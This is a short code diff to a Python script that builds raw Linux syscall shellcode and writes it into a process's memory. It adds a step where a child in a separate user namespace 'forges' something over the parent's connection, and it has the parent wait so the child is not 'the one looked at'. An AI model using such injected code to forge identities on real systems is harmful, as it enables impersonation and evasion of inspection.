@@ -60,8 +60,10 @@ sleep = call(34) + b'\\xeb' + struct.pack('b', -14)
 program = b''.join(call(11, *span) for span in spans)
 if how.endswith('from outside'):
     # A child that shares this memory, in a user namespace of its own, forges; this process never left its namespace.
-    child = forge + said + call(60, 0)
+    # It is waited for: as long as it lives, it has this process's connection, too, and would be the one looked at.
+    child = forge + call(60, 0)
     program += call(56, NEWUSER | VM | 17, 0, 0, 0, 0) + b'\\x85\\xc0\\x0f\\x85' + struct.pack('<i', len(child)) + child
+    program += call(61, 2 ** 64 - 1, 0, 0, 0) + said
 else:
     program += forge + said
 memory[:len(program + sleep)] = program + sleep
